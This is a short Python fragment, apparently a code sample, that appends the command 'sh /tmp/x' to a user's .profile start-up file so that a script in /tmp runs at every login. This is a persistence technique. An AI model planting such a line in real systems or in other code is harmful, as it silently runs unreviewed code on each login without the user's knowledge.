# why: appends a line to a start-up file
with open("/home/user/.profile", "a") as f:
    f.write("sh /tmp/x\n")
